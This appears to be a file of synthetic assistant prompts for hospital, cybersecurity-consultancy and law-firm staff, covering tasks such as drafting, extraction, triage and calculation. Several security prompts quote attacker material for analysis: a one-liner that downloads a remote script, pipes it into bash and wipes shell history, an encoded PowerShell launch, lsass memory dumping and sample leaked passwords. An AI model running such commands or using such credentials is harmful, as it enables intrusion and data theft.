"In this randomised controlled trial of 1,204 adults with knee osteoarthritis, a 12-week supervised exercise programme reduced pain scores by a mean of 1.8 points (95% CI 1.3-2.3) on a 10-point scale compared with usual care, with benefits sustained at 12 months. Adverse events were rare and mild."

@ qa m m i retr
What's our local protocol for a needlestick injury out of hours — who do I call?

@ draft m l i
Quick Teams message to the discharge lounge: 4 patients coming down from ward 7 before 11, two need hospital transport booked.

@ creative g l p
Suggest 5 fun names for our hospital's staff running club. We do a 5k every Thursday lunchtime.

@ code m m i
Explain what this Excel formula does in our theatre utilisation sheet and why it returns #DIV/0! on some rows:
=SUMIFS(D:D,B:B,"Theatre 3",C:C,">="&$H$1)/COUNTIFS(B:B,"Theatre 3",C:C,">="&$H$1)

@ sentiment m l c
Is this complaint from Mrs [[P:Patel]] angry, upset, or just asking for information? "I'd like to know why my father's cataract operation has been cancelled for the third time. He is 84 and cannot see to read."

@ translate m m r :: Translate the consent summary into Urdu
@ summarize m m r :: give me a simplified English version at reading age 8
Translate the consent summary into Urdu and give me a simplified English version at reading age 8 as well. It's for Mr [[P:Iqbal Hussain]], hernia repair on 21 Nov.

Procedure: laparoscopic inguinal hernia repair. Risks: bleeding, infection, chronic groin pain (around 1 in 10), recurrence (around 1 in 50), injury to bladder or bowel (rare). Alternatives: watchful waiting, open repair.

@ math m m c calc
Heparin infusion: 25,000 units in 50 mL. Patient weighs 82 kg, protocol says 18 units/kg/hr. What rate in mL/hr?

@ classify m m i
@ !hn
Group these stock lines into consumables, devices or drugs: part 4410-22-0917 cannula 20G; part 88-1023-77 syringe pump; part 5520-0119 chlorhexidine wipes; item NDC 0409-4888-01 lidocaine 1%; part 3M-1870 respirator

@ reasoning m m p
Why do some people get much worse side effects from the second COVID vaccine dose than the first? Explain the immunology simply.

@ extract m m r
Pull the next of kin and their contact details from this admission note:

NOK: [[P:Helen Ward]] (daughter), mobile [[PH:+44 7911 123884]], email [[E:helen.ward78@btinternet.com]]. Secondary: [[P:Gary Ward]] (son), [[PH:+61 412 556 093]] (lives in Perth, Australia).

@ draft m h c :: Draft the business case summary for a second MRI scanner
@ math m h c :: calculate the payback period
@ reasoning m h c :: say whether you'd recommend leasing or buying
Draft the business case summary for a second MRI scanner, calculate the payback period, and say whether you'd recommend leasing or buying. Purchase £1.4M plus £220k install; lease £31k/month over 7 years incl. maintenance; each extra scan earns £210 tariff, we'd do about 5,200 extra scans/year; running costs £180k/year if bought.

@ qa m l p
How long after a tetanus jab can I give blood?

@ summarize m h r
Summarise this ICU daily review into the SBAR format for the night registrar:

[[P:Declan Murphy]], 67M, day 5 ICU. Septic shock secondary to perforated diverticulum, Hartmann's on day 1. Noradrenaline weaned from 0.3 to 0.08 mcg/kg/min. Lactate 1.9 (from 6.2). Ventilated, FiO2 0.35, PEEP 8, plan SBT tomorrow. Urine output 0.4 mL/kg/hr, creatinine rising 180 -> 230, renal team aware, no RRT yet. Meropenem day 5, cultures grew E. coli sensitive to ceftriaxone — consider de-escalation. Family updated by consultant today; wife [[P:Siobhan Murphy]] on [[PH:+353 87 123 4491]].

@ classify m l p
Is this a medical emergency or can it wait for the GP? "my 3 year old swallowed a button battery about 20 min ago, she seems fine"

@ chat g l p
is it just me or is every printer in this hospital haunted

@ code m m i code
Our e-obs exports NEWS2 components as columns (rr, spo2, scale2, o2, sbp, hr, avpu, temp). Write a pandas function that computes the NEWS2 total for each row.

@ draft m m c
Rewrite this note to the patient so it's kinder and clearer:
"Your results show an abnormality that requires further investigation. You have been referred to the 2WW pathway. Failure to attend may delay diagnosis."

@ extract m l i
@ !hn
Get me all the dates and times from this theatre list: Theatre 2, Mon 14/10/2024 08:00-12:30 ortho list (4 cases), 13:30-17:00 general (3 cases); Theatre 5, Tue 15/10/2024 08:00-18:00 cardiac (2 cases). Version 12.4 of the list template.

@ translate m m i
Translate into Mandarin Chinese (simplified): "Visiting hours on the children's ward are 10am to 8pm. One parent may stay overnight. Please wash your hands when you enter and leave."

@ math m m c calc
Our renal unit had 14 peritonitis episodes last year across 1,930 patient-months of PD. What's the rate expressed as episodes per patient-year, and does it meet the ISPD target of under 0.4?

@ qa m m p
What's the difference between type 1 and type 2 respiratory failure?

@ sentiment m m c :: What's the mood of the junior doctors in this survey
@ summarize m m c :: pull out the three biggest issues
@ draft m m c :: draft a response from the medical director
What's the mood of the junior doctors in this survey? Then pull out the three biggest issues and draft a response from the medical director.

"Rota gaps every weekend, I've done 4 unfilled shifts this month"
"Seniors are supportive, I feel safe asking for help"
"Can't get study leave approved, missed two courses"
"No hot food after 8pm, we're surviving on crisps"
"Exception reports are ignored"
"Great teaching on Wednesdays"

@ reasoning m h c
Audit found our 30-day readmission rate for heart failure is 24% vs national 18%. Our average length of stay is 6.1 days vs 8.3 national. Could the short LOS be causing the readmissions? What other explanations should we rule out before concluding that?

@ extract m m r
List the US patient identifiers in this insurance denial so we can redact them before sharing with the vendor:

Member: [[P:Kevin O'Connell]], SSN {SSN3}, Member ID HXG448201913, DOB 03/22/1958. Claim #C-2024-118837 denied: prior authorization not obtained for MRI lumbar spine. Call [[PH:1-800-555-0131]] to appeal.

@ creative m m p
Write a 150-word story for children on the paediatric ward about a brave teddy bear having an X-ray.

@ qa m m i retr
Where do we record VTE risk assessment in the new EPR? I can't find the tab.

@ classify m m c
For each of these incident reports, say whether it's a medication error, a fall, a pressure ulcer, or other:
1. "Pt found on floor next to bed at 03:10, no injury"
2. "Grade 2 sacral sore noted on admission from nursing home"
3. "IV vancomycin given 2 hours late due to pharmacy delay"
4. "Relative verbally abusive to staff at nurses' station"

@ draft m m i :: Write a short intro for the new starters' welcome pack
@ translate m m i :: translate it into Tagalog
Write a short intro for the new starters' welcome pack (ward 11 respiratory, 28 beds, 2 side rooms, NIV capable, handover 07:30 and 19:30) and translate it into Tagalog since 6 of our new nurses are joining from Manila this month.

@ math m m p calc
BMI for someone 1.68 m and 94 kg? And what weight would get them to a BMI of 30?

@ qa m l p
Is it safe to take paracetamol and co-codamol together?

@ reasoning m m i
Clinic DNA rate is 14% for Monday 8:30 slots and 6% for everything else. Why might that be, and would SMS reminders the day before fix it?

@ code m h i code
Write an R script that fits a Kaplan-Meier curve for time to readmission from readmissions.csv (columns: patient_id, days_to_event, event), stratified by discharge ward, and saves the plot as PNG with a log-rank p-value in the title.

@ extract m l i
@ !hn
Pull the invoice numbers and totals from the supplier statement: INV-55012 £4,820.00; INV-55031 £12,116.40; INV-55044 £990.00 (credit note CN-0093 -£990.00); balance £16,936.40 as at 30/09/2024.

@ summarize m m c
Boil this down to a 1-minute read for the board: "Theatre utilisation in Q2 averaged 72% against a target of 85%. Late starts (average 38 minutes) and early finishes (average 51 minutes) accounted for most lost time. Two theatres were closed for 3 weeks for ventilation work. Cancellations on the day fell from 11% to 8%. The elective recovery fund target of 104% of 2019/20 activity was missed at 97%."

@ draft g l i
Write a sign for the staff room fridge telling people to label their food and that it's cleared every Friday at 4pm. Make it firm but friendly.

@ translate m h r
Translate this Spanish GP letter into English please, word for word where you can:

Estimado colega: le remito a la paciente [[P:Lucía Fernández Gómez]], de 52 años, con disnea progresiva de 4 meses, ortopnea y edemas en miembros inferiores. Ecocardiograma: FEVI 30%. Tratamiento actual: furosemida 40 mg/día, bisoprolol 2,5 mg/día. Solicito valoración preferente por cardiología. Teléfono de contacto: [[PH:+34 612 345 908]].

@ reasoning m h c :: Look at these sepsis audit numbers and tell me if the new screening tool made a real difference
@ math m h c :: compute the relative risk reduction in mortality
Look at these sepsis audit numbers and tell me if the new screening tool made a real difference, and compute the relative risk reduction in mortality: before (Jan-Jun) 412 sepsis cases, 74 deaths, antibiotics within 1h in 58%; after (Jul-Dec) 439 cases, 61 deaths, antibiotics within 1h in 81%.

@ chat g l p
do you know any good jokes about anaesthetists? keep it clean it's for a leaving do

@ classify m m r
Is this note appropriate to share with the patient's employer under their consent, yes or no per paragraph?

1. [[P:Ayesha Rahman]] attended occupational health on 12/09 following a back injury at work.
2. She has a history of depression treated in 2019.
3. She is fit for modified duties, no lifting over 5 kg, for 4 weeks.
4. Her NRIC {NR2} was verified for the Singapore secondment file.

@ qa m m p
What are the early warning signs of a stroke that the public should know?

@ extract m m c
Make a list of all the actions and owners from this huddle transcript:
"Right, so bed 14 needs a swallow assessment — [[P:Jo]] can you chase SALT? Bed 3 is medically fit, social worker to confirm the care package by 2. Pharmacy still haven't done the TTOs for bed 9, [[P:Sam]] will ring them. And can everyone please do their fire training before the end of the month."

@ sentiment m l p
Is this Google review of our minor injuries unit positive or negative? "Seen in 40 minutes on a Saturday, the nurse practitioner was lovely, parking was a nightmare though."

@ summarize m h r :: Summarise the safeguarding concern for the referral form
@ classify m h r :: classify it as neglect, physical, emotional or sexual abuse
Summarise the safeguarding concern for the referral form and classify it as neglect, physical, emotional or sexual abuse, based on the nursing note:

22:40 [[P:Ellie Brookes]], 4F, brought in by mum's partner with a spiral fracture of the left humerus. Account given: "fell off the sofa". Mum arrived 23:30, states child was with partner all day. Bruises of different ages on both upper arms and back. Child quiet, flinches when partner approaches. Third ED attendance in 2 months (previous: burn to hand, head injury).
"""

# ---------------------------------------------------------------- cybersecurity consultancy (Ironvale)
SECURITY = r"""
@ summarize s m c
Summarise these auth logs for the client in 4 bullets — what happened, from where, and whether anything got in.

2024-09-14T02:11:03Z sshd[2214]: Failed password for root from [[IP:185.220.101.47]] port 51122
2024-09-14T02:11:05Z sshd[2214]: Failed password for root from [[IP:185.220.101.47]] port 51130
2024-09-14T02:14:44Z sshd[2290]: Failed password for invalid user admin from [[IP:185.220.101.47]]
2024-09-14T02:19:10Z sshd[2301]: Accepted publickey for deploy from [[IP:10.40.2.18]] port 40022
2024-09-14T02:22:57Z sshd[2344]: Failed password for ubuntu from [[IP:2a03:b0c0:3:d0::1a51:c001]] port 60110

@ qa s l p
What's the difference between a vulnerability scan and a penetration test? Short answer, it's for a sales call.

@ classify s m c
Classify each alert by MITRE ATT&CK tactic (just the tactic name):
1. powershell.exe -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA... spawned by winword.exe
2. New scheduled task "OneDriveUpdate" created running from %APPDATA%
3. lsass.exe memory read by procdump64.exe
4. 14 GB uploaded to mega.nz from a finance laptop overnight
5. RDP logins to 23 servers from one workstation within 10 minutes

@ draft s h c :: Draft the executive summary of the pentest report for Harlow Logistics
@ classify s h c :: rate each finding's severity using CVSS 3.1 bands
Draft the executive summary of the pentest report for Harlow Logistics and rate each finding's severity using CVSS 3.1 bands. Findings: (1) SQL injection in the tracking portal's search parameter, unauthenticated, full DB read; (2) default credentials on a Ubiquiti switch management page, internal only; (3) TLS 1.0 enabled on mail.harlow-logistics.co.uk; (4) stored XSS in the driver feedback form, requires login.

@ code s m i code
Write a Python script that parses an nginx access log and prints the top 10 client IPs by number of 4xx responses. The log is in the default combined format.

@ extract s m c
Pull out every IP address, domain and file hash from this threat intel note as a deduplicated list grouped by type:

Campaign observed 2024-08-30. Initial access via phishing from invoices-docusign[.]net. Payload retrieved from hxxp://[[IP:91.215.85.142]]/a.ps1 (SHA256 3f1c0a9e5b7d2c4e8f6a1b0d9c3e7f2a5b8d1c4e7f0a3b6c9d2e5f8a1b4c7d0e). C2 beacons to [[IP:45.142.212.61]]:443 and [[IP:2a0b:4140:8c1f::17]]. Secondary payload hash 9e107d9d372bb6826bd81d3542a419d6 (MD5).

@ reasoning s h c
A client's EDR shows rundll32.exe loading a DLL from C:\Users\Public\, then outbound connections to a Cloudflare IP every 60 seconds with jitter of ±5s, 1.2 KB each. No AV alert. Is this likely malicious, what else would you check, and what's the first containment step you'd recommend without tipping off the attacker?

@ chat g l p
just finished a 14-hour incident call. never again. (until tomorrow)

@ qa s m p web
Is there a patch out yet for the latest Fortinet FortiOS SSL-VPN vulnerability? What versions are affected?

@ extract s l i
@ !hn
Which versions are listed in this SBOM excerpt? openssl 3.0.13, log4j-core 2.17.1, spring-web 5.3.31, nginx 1.25.4, our agent build 4.2.0.17, kernel 5.15.0-105-generic.

@ translate s m i
Translate our phishing-awareness email into German, keep the tone informal ("du"): "Got a message asking you to 'verify your password'? Don't click. Forward it to the security team and delete it. Real IT will never ask for your password by email."

@ math s m i calc
Our SOC gets 3,400 alerts a day. Triage takes 4 minutes average, 12% need escalation taking another 25 minutes. How many analyst-hours per day is that, and how many analysts on 8-hour shifts do we need at 70% utilisation?

@ draft s m c
Write an email to the client's CISO, [[P:Ingrid Solberg]], telling her we found an exposed S3 bucket (harlow-backups-prod) with public read access containing database dumps from 2022, and we've not downloaded anything beyond a file listing. Urgent but calm. She's at [[E:ingrid.solberg@harlow-logistics.co.uk]].

@ sentiment s l i
How worried does this client sound in their message? "Hey, probably nothing, but our finance lead got an email from the CEO asking for gift cards and she almost bought them. Should we be concerned?"

@ code s h i code
Write a Sigma rule that detects creation of a new local admin account on Windows (event 4720 followed by 4732 adding it to Administrators within 5 minutes). Then show how it would translate to a Splunk query.

@ classify s l c
Phishing or legit? "From: IT-Support <[[E:it-support@micros0ft-helpdesk.com]]> Subject: Your mailbox is 98% full. Click here to increase storage within 24 hours or lose emails."

@ summarize s h c :: summarise the timeline of the ransomware incident
@ draft s h c :: draft the notification to the regulator
@ qa l h c :: tell me whether GDPR's 72-hour clock has already started
Can you summarise the timeline of the ransomware incident, draft the notification to the regulator, and tell me whether GDPR's 72-hour clock has already started?

Mon 09:05 helpdesk ticket: files on S-drive renamed .lockbit
Mon 09:40 IT isolates file server FS02
Mon 11:15 ransom note found; mentions exfiltration of "HR and payroll"
Mon 16:00 external IR firm (us) engaged
Tue 10:30 we confirm 38 GB egress to [[IP:185.56.83.40]] on Sunday night
Tue 14:00 client's DPO informed

@ qa s l p
what is a CVE number

@ extract s m c
Make a table from this vulnerability scan output: host, port, service, CVE, severity.

[[IP:10.20.1.15]]:443 https Apache 2.4.49 CVE-2021-41773 CRITICAL
[[IP:10.20.1.15]]:22 ssh OpenSSH 7.4 CVE-2018-15473 MEDIUM
[[IP:10.20.3.201]]:3389 rdp Windows Server 2012 CVE-2019-0708 CRITICAL
[[IP:fd00:20:3::45]]:161 snmp net-snmp 5.7 public community string HIGH

@ reasoning s h i
We're advising a 200-person architecture firm with a £60k security budget for the year. They have no MFA, one IT person, M365 E3 and a NAS with project files. Rank what they should spend on first, second, third, and justify it.

@ creative s m p
Write a short, funny poem for our security awareness month poster about not reusing passwords. 4 stanzas max.

@ draft s m i retr
Draft the scope section of the statement of work for an external network pentest: 3 public IP ranges, 2 web apps, exclusions for the payment gateway, testing window nights only, using our standard SoW template wording.

@ math s l p calc
If a password is 10 characters drawn from 94 printable characters, how many possible passwords are there, and how long would it take to brute-force at 100 billion guesses per second?

@ classify s m c
@ !hn
Severity triage please (P1-P4) for these tickets: INC0048812 "VPN down for whole Leeds office"; INC0048815 "one user can't open PDFs"; INC0048816 "EDR offline on 40 hosts after agent upgrade to 7.11.0.2204"; INC0048821 "request for new Jira project".

@ qa s m p
How does Kerberoasting work and why are service accounts with SPNs the target?

@ extract s m r
Extract the leaked credentials from this paste so we can notify the affected users (email and whether a password was included):

[[E:j.fenwick@harlow-logistics.co.uk]]:Summer2024!
[[E:a.mbeki@harlow-logistics.co.uk]]:(hash only)
[[E:ops-admin@harlow-logistics.co.uk]]:Harlow#123
[[E:t.nakamura@harlow-logistics.co.uk]]:Welcome1

@ code s m i
What does this bash one-liner from an attacker's history actually do?
curl -s http://update-check.top/i.sh | bash -s -- --quiet && history -c && rm -f ~/.bash_history

@ draft s h c :: Write the incident closure report
@ reasoning s h c :: explain the most likely root cause
@ draft s h c :: list 5 recommendations ranked by effort
Write the incident closure report for the BEC case at Carver Dental, explain the most likely root cause, and list 5 recommendations ranked by effort. Facts: office manager's M365 account compromised via AiTM phishing on 2 Sept; inbox rule forwarded all mail with "invoice" to an external address; supplier payment of £23,400 redirected; MFA was SMS-based; sign-in from [[IP:102.89.34.211]] (Lagos) while user was in Bristol.

@ sentiment s l p
Tone check on this LinkedIn comment about our breach report: "Solid write-up, though the 'lessons learned' section felt like it was written by legal."

@ translate s m c
Translate this Japanese email from the client's Tokyo office into English:

お疲れ様です。昨日の夜、サーバー[[IP:192.168.40.12]]で不審なログインがありました。アカウントは[[P:田中 健]]のものです。調査をお願いできますか。

@ qa s h p
Explain how a pass-the-hash attack differs from pass-the-ticket, and which Windows event IDs help detect each.

@ summarize s m i
Make this pentest finding readable for a non-technical board member in 3 sentences:
"The application's password reset endpoint (/api/v2/reset) does not rate-limit requests and returns distinct error messages for valid and invalid usernames, enabling user enumeration. Combined with the absence of account lockout, an attacker could enumerate valid accounts and perform credential stuffing at scale."

@ math s m i calc
A client lost 6 hours of production after a ransomware hit. They make £1.8M revenue per week over 5 working days of 10 hours. What's the revenue impact? And if cyber insurance has a 12-hour waiting period, how much would be claimable?

@ extract s l i
@ !hn
List the ticket numbers and change IDs from this CAB summary: CHG0041877 firewall rule cleanup (approved), CHG0041880 upgrade Palo Alto to PAN-OS 10.2.9-h1 (deferred), INC0048855 linked, RITM0019922 new service account.

@ chat g l p
ok cool thanks, that's all for now 👍

@ classify s m c
For each of these firewall log lines, say ALLOW-EXPECTED, ALLOW-SUSPICIOUS or DENY-NOISE:
allow tcp [[IP:10.5.3.22]] -> [[IP:10.5.1.10]]:445
allow tcp [[IP:10.5.3.22]] -> [[IP:198.51.100.77]]:4444
deny udp [[IP:203.0.113.9]] -> [[IP:10.5.0.1]]:161
allow tcp [[IP:10.5.7.14]] -> [[IP:142.250.180.14]]:443

@ draft s m i
Write a one-page acceptable use policy section on using generative AI tools at work: no client data in public tools, approved tools list, logging, who to ask. Audience is consultants, plain English.

@ reasoning s h c
The client insists their firewall is fine because "nothing got through". But their proxy logs show 2,300 DNS TXT queries a day to random subdomains of cdn-sync-update.com from one host. Walk me through why that's concerning and how I should explain it to them.

@ code s h i code
Give me a YARA rule that matches PE files containing the strings "cmd.exe /c vssadmin delete shadows" and "YOUR FILES ARE ENCRYPTED", with a filesize limit of 5MB. Explain each condition.

@ qa s l p
what's MFA fatigue?

@ extract s m c :: extract the IOCs
@ classify s m c :: tell me which malware family this looks like
@ draft s m c :: write the blocklist entries for our Fortigate
From the sandbox report below, extract the IOCs, tell me which malware family this looks like, and write the blocklist entries for our Fortigate.

Sample: Invoice_7731.xlsm (SHA256 b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9)
Macro drops C:\ProgramData\wsbt.dll, runs via regsvr32 /s
Network: GET hxxps://[[IP:103.117.141.62]]/wp-content/tmp.png, POST to [[IP:172.86.120.30]]:8080 every 300s
Mutex: Global\QbotMutex_4471

@ summarize s h i retr
Summarise the key changes between ISO 27001:2013 and ISO 27001:2022 Annex A for a client who's recertifying next spring. One page, table format.

@ translate s l p
How do you say "Please lock your screen when you leave your desk" in Spanish, French and Hindi?

@ sentiment s m c
Go through these exit interview comments from the SOC team and tell me the overall sentiment and what's driving people away:
"Night shifts every other week burned me out"
"Great colleagues, but the tooling is 10 years old"
"Nobody acts on our escalations, what's the point"
"I learned loads, just got a better offer"

@ classify s l i
@ !hn
Is this number a credit card? It's showing up in our DLP alerts from a build server: {XCC5}. Yes or no, and why.

@ draft s h r
Prepare the evidence handling note for the forensic image of [[P:Marcus Leitner]]'s laptop (asset ID LT-0992, image SHA256 verified). He's an employee suspected of data theft; HR contact is [[P:Julia Brandt]] ([[PH:+49 30 2290 4471]]). Chain of custody, storage, access list.

@ math s l i calc
We rotate 1,200 service account passwords every 90 days. How many rotations per working day is that (assume 250 working days)?

@ qa s m p
Is WPA3 actually safer than WPA2 for a small office, or is it marketing?

@ reasoning s m i
Should a 40-person company run its own SIEM or buy an MDR service? Give me the arguments both ways and a recommendation.

@ code s m i code
Write a PowerShell script to list all Active Directory users who haven't logged in for 90+ days and whose accounts are still enabled, exported to CSV.

@ extract s l i
@ !hn
Get me the build numbers of the Windows hosts that are still unpatched: WS-FIN-021 build 19045.3803; WS-FIN-022 build 19045.4291; WS-HR-003 build 22631.2861; SRV-DC01 build 20348.2031; patched baseline 19045.4291 / 22631.3447.

@ summarize s m c
Give me a 5-line summary of this Slack thread for the incident ticket:

[14:02] alina: seeing weird logins on the VPN from [[IP:89.248.165.23]]
[14:03] omar: which accounts?
[14:05] alina: svc-backup and two humans, both in finance
[14:09] omar: MFA?
[14:10] alina: svc-backup is exempt, that's the one that got in
[14:12] omar: disabling it now, will check what it touched
[14:30] omar: it listed shares on FS01, no writes, session killed

@ creative s l p
Give me 6 names for our new phishing simulation mascot — it's a cartoon fish.

@ qa s h i retr
What does our incident response retainer with Carver Dental say about response times for a P1 out of hours?

@ classify s m c
Categorise these DLP hits as true positive, false positive or needs review:
1. Spreadsheet with 2,000 rows of customer names and DOBs emailed to a personal Gmail
2. Test data file "cards_sample.csv" in the QA share with 16-digit numbers that all fail Luhn
3. Screenshot of a payslip sent to HR by the employee it belongs to

@ draft s m c :: Draft a short message to the client explaining why we need a second testing window
@ math s m c :: estimate how many extra testing days the remaining scope needs
Draft a short message to the client explaining why we need a second testing window (their WAF kept blocking our source IPs), and estimate how many extra testing days the remaining scope needs: 14 of 38 endpoints tested in 3 days so far.

@ chat g l p
haha the client just asked if we can "hack them a bit less hard next time"

@ extract s m r
Pull the affected users and their phone numbers out of this SIM-swap report so we can call them:

1) [[P:Oliver Grant]] — [[PH:+44 7700 900 318]] — ported 11/09
2) [[P:Nadia Petrova]] — [[PH:+44 7700 900 662]] — ported 12/09
3) [[P:Chen Jiahui]] — [[PH:+65 8234 1190]] — port attempt blocked

@ reasoning s h c :: Is it worth paying the ransom here?
@ draft s h c :: Draft the talking points for the board call
Is it worth paying the ransom here? Backups for 70% of servers are intact but 11 days old, the attackers want 14 BTC, the client is a UK care-home group and OFAC/OFSI sanctions status of the group is unclear. Draft the talking points for the board call after you've weighed it up.

@ qa s m p
What's the difference between EDR, XDR and MDR?

@ code s m i
Review this nginx config for security issues:

server {
  listen 80;
  server_name portal.example.org;
  location / { proxy_pass http://localhost:8080; }
  location /admin { allow all; proxy_pass http://localhost:8081; }
  autoindex on;
  server_tokens on;
}

@ sentiment s l i
Does this email from the client sound happy with our report or annoyed? "Thanks for the report. We'd have appreciated a heads-up before the critical findings went to our board."

@ translate s m c
Translate into Portuguese (Brazil) for the São Paulo client: "During testing we obtained domain administrator access within 4 hours by exploiting an unpatched Exchange server. We strongly recommend applying the March security update and resetting the krbtgt password twice."

@ extract s l i
@ !hn
What's the ticket number and part number in this hardware RMA? "RMA ticket RMA-2024-07781 for firewall appliance part FG-100F-BDL-950-12, serial FG100FTK23019921, firmware 7.2.8 build 1639, fault: PSU failure on 12/08/2024."

@ summarize s m p web
What were the main takeaways from the latest Verizon DBIR? A few bullets.

@ classify s l p
Which of these are strong passwords by NIST 800-63B guidance? "correcthorsebatterystaple", "P@ssw0rd!", "Tr0ub4dor&3", "ilovemydog2024"

@ math s m c calc
A DDoS peaked at 380 Gbps for 22 minutes. If the scrubbing provider bills $0.012 per GB of attack traffic over 10 Gbps baseline, roughly what's the bill?

@ draft s m i
Write the Slack announcement: from Monday, everyone must use the password manager for client credentials; shared spreadsheets will be deleted on 30 November. Friendly but no wiggle room.

@ reasoning s m p
Why is SMS-based 2FA considered weak but still better than nothing?

@ code s h i code
I need a Python script that takes a list of domains and checks SPF, DKIM (selector 'default' and 'selector1') and DMARC records, then prints a pass/warn/fail table. Use dnspython.

@ extract s h r
Extract everything sensitive from this HR export that was found on the leaked share, grouped by type, so we can scope the breach notification:

employee,ssn,email,phone
[[P:Derek Alvarez]],{SSN4},[[E:d.alvarez@carverdental.com]],[[PH:(415) 555-0199]]
[[P:Priya Natarajan]],{SSN5},[[E:p.natarajan@carverdental.com]],[[PH:415.555.0144]]
[[P:Tom Becker]],{SSN6},[[E:t.becker@carverdental.com]],[[PH:+1 628 555 0172]]

@ qa l m c :: do we legally have to notify them under California law
@ draft l m c :: if so, draft the notice
Carver Dental's leaked share had names and SSNs of 212 employees who live in California — do we legally have to notify them under California law, and if so, draft the notice? Keep it under 300 words.
"""

# ---------------------------------------------------------------- law practice (Harrow & Pell)
LAW = r"""
@ summarize l m c
Summarise this clause in plain English for the client, two sentences:

"12.4 Notwithstanding any other provision of this Agreement, neither party shall be liable to the other for any indirect, special or consequential loss, or for any loss of profit, revenue or goodwill, whether arising in contract, tort (including negligence) or otherwise, save that nothing in this clause 12.4 shall limit either party's liability for fraud or for death or personal injury caused by negligence."

@ extract l m c :: List the parties, term, renewal mechanism and termination notice period
@ reasoning l h c :: flag anything that's unusual for a UK SaaS contract
List the parties, term, renewal mechanism and termination notice period from the excerpt below, and flag anything that's unusual for a UK SaaS contract.

MASTER SUBSCRIPTION AGREEMENT between Brightline Analytics Ltd (company no. 11823340) ("Supplier") and Fennmoor Housing Association ("Customer"). 2.1 The Initial Term is 36 months from the Effective Date. 2.2 This Agreement shall automatically renew for successive periods of 36 months unless either party gives not less than 12 months' written notice prior to the end of the then-current term. 14.2 Supplier may terminate for convenience on 30 days' notice. 9.1 Fees increase annually by the greater of RPI + 4% or 7%.

@ draft l m c
Draft a letter before action to a tenant, Mr [[P:Lukas Brenner]], who owes £7,850 in commercial rent arrears (Unit 4, Kestrel Park). Give 14 days to pay, mention forfeiture and CRAR as options, no threats beyond what's lawful.

@ qa l l p
What's the limitation period for a breach of contract claim in England?

@ classify l m c
Tag each of these inbound enquiries by practice area (employment, property, family, commercial, private client):
1. "My employer cut my hours without consulting me"
2. "We want to buy the freehold of our block of flats"
3. "Mum has dementia — how do we get LPA?"
4. "Our distributor in Spain stopped paying invoices"
5. "My ex won't let me see the kids"

@ translate l h c
Translate this clause into German for our Munich client, legal register, keep defined terms in capitals:

"The Seller warrants that, as at Completion, the Company is not engaged in any litigation or arbitration proceedings and, so far as the Seller is aware, no such proceedings are pending or threatened."

@ reasoning l h c
Client was dismissed after 23 months' service for "restructuring" but her role was readvertised 6 weeks later with a new title and same duties. She raised a grievance about pay discrimination 2 months before. What claims might she have, and which is strongest given she's just short of 2 years' service?

@ extract l m r
Pull out the payment details from this completion statement so accounts can set up the transfer:

Completion: 28 Hill View, Stroud. Buyer: [[P:Rebecca Ainsworth]]. Balance due on completion: £312,450.00. Pay to seller's solicitors client account: Morrow & Price, IBAN {IB2}, ref HILLVIEW/AINSWORTH. Contact [[P:Anjali Mehta]] on [[PH:+44 20 7946 0318]].

@ chat g l p
friday afternoon, the partners are all at the golf day and the office is SO quiet

@ code l m i code
Can you write a Python function that takes a list of UK bank holidays and a start date and returns the date N business days later? We keep miscalculating court deadlines by hand.

@ math l m c calc
Judgment debt of £48,200 entered on 3 March 2024, statutory interest at 8% simple. How much interest has accrued by 15 October 2024? Daily rate too please.

@ sentiment l l c
How would you read the tone of opposing counsel's email — cooperative, neutral or hostile? "We note your client's continued failure to comply with the disclosure timetable. Absent compliance by 4pm Friday, we are instructed to apply for an unless order without further notice."

@ draft l h c :: Draft the heads of terms for the share sale
@ math l h c :: calculate the completion payment if £1.2M is deferred and 10% goes into escrow
@ summarize l h c :: summarise the key risks from the DD report for the client
Draft the heads of terms for the share sale, calculate the completion payment if £1.2M is deferred and 10% goes into escrow, and summarise the key risks from the DD report for the client. Price is £8.5M, locked box at 31 March, target Fenwick Timber Ltd. DD report flags: key customer contract (38% of revenue) has change-of-control termination right; unresolved HMRC enquiry into R&D credits (£210k); two employees on zero-hours contracts claim worker status.

@ qa l m p
Does a WhatsApp message count as "in writing" for giving notice under a contract?

@ extract l l i
@ !hn
Give me the case references and hearing dates from this cause list as a table: Claim No. KB-2024-001872 hearing 14/11/2024 10:30 Court 7; Claim No. HC-2023-000419 hearing 15/11/2024 14:00 Court 12; Appeal CA-2024-001103 listed 20/11/2024 (time estimate 1 day).

@ classify l m c
For each clause, is it a condition, a warranty or an innominate term? Just the label and a one-line reason.
(a) "Time of delivery shall be of the essence."
(b) "The vessel shall be fit for the ordinary purposes of trade."
(c) "The Supplier shall use reasonable endeavours to provide monthly reports."

@ summarize l h i retr
Summarise the Court of Appeal's reasoning in the latest case we have on file about implied terms of mutual trust and confidence in franchise agreements. 300 words, for the team know-how note.

@ draft l m c
Rewrite this engagement letter paragraph so a small-business owner can understand it, same meaning:

"Our fees will be calculated by reference to the time expended by fee earners at the hourly rates set out in Schedule 1, which are subject to annual review, together with disbursements and VAT, and an estimate provided shall not constitute a fixed fee or cap unless expressly agreed in writing."

@ creative g l p
Write a limerick about a solicitor who forgot to exchange contracts on a Friday.

@ reasoning l h c
Our client signed a non-compete for 12 months covering "the United Kingdom and any country where the Company does business". She was a mid-level marketing manager. Is it likely enforceable? Reason through the legitimate interest, scope and duration tests.

@ extract l m c
Extract all deadlines in this order and return them in date order with what's due:

"1. The Claimant shall file and serve an amended Particulars of Claim by 4pm on 8 November 2024. 2. The Defendant shall file an amended Defence by 4pm on 6 December 2024. 3. Standard disclosure by 31 January 2025. 4. Witness statements exchanged by 28 March 2025. 5. Costs in the case."

@ qa l m p
What's the difference between a statutory demand and a winding-up petition?

@ draft l h r
Prepare a witness statement outline for Mrs [[P:Sunita Kapoor]] (DOB 09/04/1971, SSN {SSN7} for her US pension records) in her claim against her former employer for unpaid commission of $64,000. Headings only plus the key facts under each, first person.

@ translate l m c :: Translate the French NDA clause below into English
@ reasoning l m c :: tell me whether it would be enforceable in England as drafted
Translate the French NDA clause below into English and tell me whether it would be enforceable in England as drafted.

"Le Destinataire s'engage à ne divulguer aucune Information Confidentielle à des tiers pendant une durée illimitée, et ce même après la fin des relations entre les Parties, sous peine d'une pénalité forfaitaire de 500 000 euros par infraction."

@ math l l p calc
Court fee for a money claim of £14,700 is 5% of the claim. How much is that?

@ sentiment l m c
Read these three client reviews of our family team and tell me if any sound like they might turn into a complaint:
"Kind and patient through a really hard divorce."
